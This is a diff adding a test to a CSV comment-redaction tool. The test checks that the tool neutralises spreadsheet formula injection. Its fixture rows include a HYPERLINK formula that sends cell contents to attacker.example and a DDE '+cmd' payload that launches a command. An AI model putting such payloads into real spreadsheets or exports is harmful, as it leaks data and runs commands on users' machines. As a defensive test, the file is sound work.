@@ -226,3 +226,23 @@ def test_progress_shows_on_a_terminal(comments_csv: Path, tmp_path: Path) -> Non
     assert process.returncode == 0
     assert b"Redacting" in shown
     assert b"6/6" in shown
+
+
+def test_redact_writes_no_text_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    comments = write_csv(
+        tmp_path / "in.csv",
+        [
+            ["id", "comment"],
+            ["1", '=HYPERLINK("http://attacker.example/?"&A1,"Click for more")'],
+            ["2", "+cmd|' /C calc'!A0"],
+            ["3", "-2+3 people saw it"],
+            ["4", "@SUM(1+1)"],
+            ["5", "Nothing odd here"],
+        ],
+    )
+    out = tmp_path / "out.csv"
+    assert main(["redact", str(comments), "--column", "comment", "--out", str(out)]) == 0
+    rows = read_rows(out)
+    assert [row["comment"][:1] for row in rows[:4]] == ["'", "'", "'", "'"]
+    assert rows[0]["comment"].startswith("'=HYPERLINK(")
+    assert rows[4]["comment"] == "Nothing odd here"
